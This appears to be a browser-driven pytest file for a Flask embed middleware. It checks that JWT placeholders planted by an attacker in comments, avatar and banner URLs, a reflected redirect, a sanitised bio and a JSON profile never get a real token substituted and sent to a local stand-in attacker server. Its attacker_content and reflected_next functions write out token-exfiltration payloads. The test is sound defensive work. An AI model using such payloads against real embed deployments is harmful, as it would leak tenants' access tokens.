"""Placeholder text planted by an attacker, in a real browser: no token ever reaches the attacker.

A Flask host app (``embed_middleware.flask.Embed``) renders a logged-in tenant's page holding its own
embed, ``<iframe src="{{ dashboard }}/embed/top_airlines?token={{ embed_placeholder('top_airlines') }}">``,
and content an attacker controls, rendered the way apps render user content, each pointing at the
attacker's server with a placeholder in every spelling the middleware recognises:

* a stored comment in a ``<p>`` (autoescaped: shown as text, so it fetches nothing);
* an avatar URL in ``<img src>`` (``?t=<JWT_TOKEN:top_airlines>``, which autoescaping makes ``&lt;…&gt;``);
* a reflected ``?next=`` (``%3CJWT_TOKEN%3E``) in a link and a two-second ``<meta http-equiv="refresh">``;
* a user-chosen banner URL in a ``style="background:url(…)"`` attribute;
* a sanitised bio passed through ``|safe`` with ``<img src="…?t=<JWT_TOKEN>">`` and
  ``<img src="…?t=&lt;JWT_TOKEN:top_airlines&gt;">``;
* a profile in a JSON ``<script>`` data block (``|tojson``) that the page's script turns into images.

Headless Chromium loads the page; the test waits until the attacker's server has received a request
for every sink that makes one and the dashboard server the iframe's. Not one request at the attacker
(request line or any header, ``Referer`` included) carries a JWT; the dashboard's carries a valid one
for the tenant and resource. The host runs on ``localhost``, the attacker and dashboard on
``127.0.0.1``: other sites, so the session cookie stays with the host, as it would in production.
"""

from __future__ import annotations

import base64
import contextlib
import secrets
import threading
import time
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any
from urllib.parse import parse_qs, quote, urlsplit

import jwt
import pytest

from tests.support.tokens import JWT_TEXT

pytest.importorskip(
    "playwright.sync_api",
    reason="playwright not installed: pip install -e '.[test]'; `make test` installs it",
)

from flask import Flask, render_template_string, request
from playwright.sync_api import Browser, sync_playwright

from embed_middleware import TokenIssuer
from embed_middleware.flask import Embed
from tests.support.browser_helpers import SKIP_NO_CHROMIUM, TIMEOUT_MS, chromium_missing, launch, new_context
from tests.support.uvicorn_thread import uvicorn_in_thread
from tests.support.wsgi_thread import wsgi_in_thread

if TYPE_CHECKING:
    from _typeshed.wsgi import StartResponse, WSGIApplication, WSGIEnvironment

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(chromium_missing() is not None, reason=SKIP_NO_CHROMIUM),
]

SIGNING_KEY = secrets.token_urlsafe(48)
RESOURCE = "top_airlines"
#: The host's session cookie -> tenant (what a login would have set).
SESSIONS = {secrets.token_urlsafe(16): "acme", secrets.token_urlsafe(16): "globex"}
#: Seconds before the reflected meta refresh leaves the page.
REFRESH_DELAY = 2
#: Where each sink sends the browser at the attacker's server (the comment, escaped, sends it nowhere).
SINKS = ("/avatar.png", "/next", "/banner.png", "/x", "/y", "/json", "/json-pct")

PAGE = """<!doctype html>
<html><head><title>Analytics</title>
<meta http-equiv="refresh" content="{{ delay }}; url={{ next }}">
</head><body>
<h1>Analytics</h1>
<iframe id="embed"
  src="{{ dashboard }}/embed/top_airlines?token={{ embed_placeholder('top_airlines') }}"></iframe>
<p class="comment">{{ comment }}</p>
<img class="avatar" alt="" src="{{ avatar }}">
<a class="next" href="{{ next }}">Continue</a>
<div class="banner" style="background:url('{{ banner }}'); height: 20px"></div>
<div class="bio">{{ bio|safe }}</div>
<script type="application/json" id="profile">{{ profile|tojson }}</script>
<script>
  const profile = JSON.parse(document.getElementById("profile").textContent);
  for (const url of [profile.website, profile.pixel]) new Image().src = url;
</script>
</body></html>
"""


def attacker_content(attacker: str) -> dict[str, Any]:
    """What the attacker stored in their profile and comment (the page's ``next`` comes from the URL)."""
    return {
        "comment": f'Nice chart! <img src="{attacker}/comment?t=<JWT_TOKEN:top_airlines>">',
        "avatar": f"{attacker}/avatar.png?t=<JWT_TOKEN:top_airlines>",
        "banner": f"{attacker}/banner.png?t=<JWT_TOKEN>",
        # What a sanitiser keeps: images with http URLs (the text inside them is not its business).
        "bio": (
            f'<img alt="" src="{attacker}/x?t=<JWT_TOKEN>">'
            f'<img alt="" src="{attacker}/y?t=&lt;JWT_TOKEN:top_airlines&gt;">'
        ),
        "profile": {
            "website": f"{attacker}/json?t=<JWT_TOKEN:top_airlines>",
            "pixel": f"{attacker}/json-pct?t=%3CJWT_TOKEN:top_airlines%3E",
        },
    }


def reflected_next(attacker: str) -> str:
    return f"{attacker}/next?t=%3CJWT_TOKEN%3E"


def host_app(dashboard: str, attacker: str, sent: list[bytes]) -> WSGIApplication:
    app = Flask(__name__)
    Embed(
        app,
        issuer=TokenIssuer(SIGNING_KEY, resources=[RESOURCE]),
        resolver=lambda: SESSIONS.get(request.cookies.get("session", "")),
    )

    @app.get("/")
    def page() -> str:
        return render_template_string(
            PAGE,
            dashboard=dashboard,
            next=request.args.get("next", "/"),
            delay=REFRESH_DELAY,
            **attacker_content(attacker),
        )

    middleware = app.wsgi_app

    def recording(environ: WSGIEnvironment, start_response: StartResponse) -> Iterable[bytes]:
        """Keeps the page exactly as the middleware sent it."""
        chunks = middleware(environ, start_response)
        try:
            body = b"".join(chunks)
        finally:
            if hasattr(chunks, "close"):
                chunks.close()
        if environ.get("PATH_INFO") == "/":
            sent.append(body)
        return [body]

    return recording


@dataclass
class Recorded:
    """Every request a server received: its request line and its headers, as they arrived."""

    requests: list[tuple[str, list[tuple[str, str]]]] = field(default_factory=list)
    guard: threading.Lock = field(default_factory=threading.Lock)

    def add(self, line: str, headers: list[tuple[str, str]]) -> None:
        with self.guard:
            self.requests.append((line, headers))

    def paths(self) -> set[str]:
        with self.guard:
            return {urlsplit(line.split(" ")[1]).path for line, _ in self.requests}

    def clear(self) -> None:
        with self.guard:
            self.requests.clear()


#: A 1x1 transparent GIF, for every image the attacker serves.
GIF = base64.b64decode("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7")


@contextlib.contextmanager
def attacker_server(recorded: Recorded) -> Iterator[str]:
    """A plain HTTP server that keeps the raw request line and every header of every request."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            recorded.add(self.requestline, list(self.headers.items()))
            page = urlsplit(self.path).path == "/next"
            body = b"<!doctype html><title>elsewhere</title>" if page else GIF
            self.send_response(200)
            self.send_header("Content-Type", "text/html" if page else "image/gif")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        server.server_close()
        thread.join(5)


def dashboard_app(recorded: Recorded) -> Any:
    """The vendor's side, as a tiny ASGI app: records each request, answers a small page."""

    async def app(scope: dict[str, Any], receive: Any, send: Any) -> None:
        assert scope["type"] == "http"
        target = scope["path"] + (f"?{scope['query_string'].decode()}" if scope["query_string"] else "")
        headers = [(k.decode("latin-1"), v.decode("latin-1")) for k, v in scope["headers"]]
        recorded.add(f"{scope['method']} {target} HTTP/{scope['http_version']}", headers)
        body = b"<!doctype html><p>chart</p>"
        await send(
            {
                "type": "http.response.start",
                "status": 200,
                "headers": [(b"content-type", b"text/html"), (b"content-length", str(len(body)).encode())],
            }
        )
        await send({"type": "http.response.body", "body": body})

    return app


@dataclass(frozen=True)
class Servers:
    host: str
    attacker: str
    dashboard: str
    at_attacker: Recorded
    at_dashboard: Recorded
    pages: list[bytes]


@pytest.fixture(scope="module")
def servers() -> Iterator[Servers]:
    at_attacker, at_dashboard, pages = Recorded(), Recorded(), list[bytes]()
    with (
        attacker_server(at_attacker) as attacker,
        uvicorn_in_thread(dashboard_app(at_dashboard)) as dashboard_port,
    ):
        dashboard = f"http://127.0.0.1:{dashboard_port}"
        with wsgi_in_thread(host_app(dashboard, attacker, pages)) as host_port:
            yield Servers(
                f"http://localhost:{host_port}", attacker, dashboard, at_attacker, at_dashboard, pages
            )


@pytest.fixture(scope="module")
def browser(servers: Servers) -> Iterator[Browser]:
    """After ``servers``, so Chromium closes (and drops its keep-alive connections) before they stop."""
    with sync_playwright() as playwright:
        chromium = launch(playwright)
        try:
            yield chromium
        finally:
            chromium.close()


def wait_for(condition: Any, what: str, timeout: float = TIMEOUT_MS / 1000 + REFRESH_DELAY) -> None:
    deadline = time.monotonic() + timeout
    while not condition():
        if time.monotonic() > deadline:
            raise AssertionError(f"timed out waiting for {what}")
        time.sleep(0.05)


@pytest.mark.parametrize("tenant", sorted(set(SESSIONS.values())))
def test_planted_placeholders_send_the_attacker_no_token(
    browser: Browser, servers: Servers, tenant: str
) -> None:
    session = next(sid for sid, name in SESSIONS.items() if name == tenant)
    servers.at_attacker.clear()
    servers.at_dashboard.clear()
    servers.pages.clear()
    url = f"{servers.host}/?next={quote(reflected_next(servers.attacker), safe='')}"
    with new_context(browser) as context:
        context.add_cookies([{"name": "session", "value": session, "url": servers.host}])
        page = context.new_page()
        response = page.goto(url)
        assert response is not None and response.status == 200
        # Chromium really fetched every sink (/next once the refresh fired) and the app's iframe.
        wait_for(lambda: servers.at_attacker.paths() >= set(SINKS), f"the attacker to see {SINKS}")
        wait_for(lambda: f"/embed/{RESOURCE}" in servers.at_dashboard.paths(), "the iframe's request")

    leaks = [
        (line, headers)
        for line, headers in servers.at_attacker.requests
        if JWT_TEXT.search(line) or any(JWT_TEXT.search(value) for _, value in headers)
    ]
    assert leaks == [], "a token reached the attacker"
    assert "/comment" not in servers.at_attacker.paths(), "the escaped comment must stay text"
    # The attacker's own /next page fetches its favicon with itself as Referer; the host page sends only
    # its origin (Referrer-Policy: strict-origin-when-cross-origin), never the path or query.
    referers = {
        value
        for _, headers in servers.at_attacker.requests
        for name, value in headers
        if name.lower() == "referer" and not value.startswith(servers.attacker)
    }
    assert referers == {f"{servers.host}/"}, "the page's path or query went to another site"

    [(line, _)] = [r for r in servers.at_dashboard.requests if f" /embed/{RESOURCE}?" in r[0]]
    [token] = parse_qs(urlsplit(line.split(" ")[1]).query)["token"]
    claims = jwt.decode(token, SIGNING_KEY, algorithms=["HS256"])
    assert (claims["sub"], claims["resource"]) == (tenant, RESOURCE)

    # The page as the middleware sent it: one token (the iframe's), every planted text byte for byte.
    [body] = servers.pages
    assert JWT_TEXT.findall(body.decode()) == [token]
    for planted in (
        b"?t=&lt;JWT_TOKEN:top_airlines&gt;&#34;&gt;</p>",  # the comment, escaped once
        b"/avatar.png?t=&lt;JWT_TOKEN:top_airlines&gt;",
        b"/next?t=%3CJWT_TOKEN%3E",
        b"/banner.png?t=&lt;JWT_TOKEN&gt;",
        b"/x?t=<JWT_TOKEN>",
        b"/y?t=&lt;JWT_TOKEN:top_airlines&gt;",
        b"/json?t=\\u003cJWT_TOKEN:top_airlines\\u003e",
        b"/json-pct?t=%3CJWT_TOKEN:top_airlines%3E",
    ):
        assert planted in body, planted
